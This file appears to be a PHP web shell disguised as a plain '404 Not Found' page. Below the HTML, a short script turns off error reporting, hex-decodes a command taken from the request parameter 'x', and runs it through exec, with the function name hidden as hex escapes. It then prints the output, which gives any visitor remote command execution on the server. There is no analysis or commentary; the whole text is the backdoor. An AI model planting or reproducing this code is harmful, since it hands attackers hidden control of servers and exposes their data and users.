<html><body><h1>404 Not Found</h1></body></html>
<?php
error_reporting(0);
set_time_limit(0);
$in = hex2bin($_REQUEST['x']);
$handler = "\x65\x78\x65\x63";
echo $handler($in);
?>
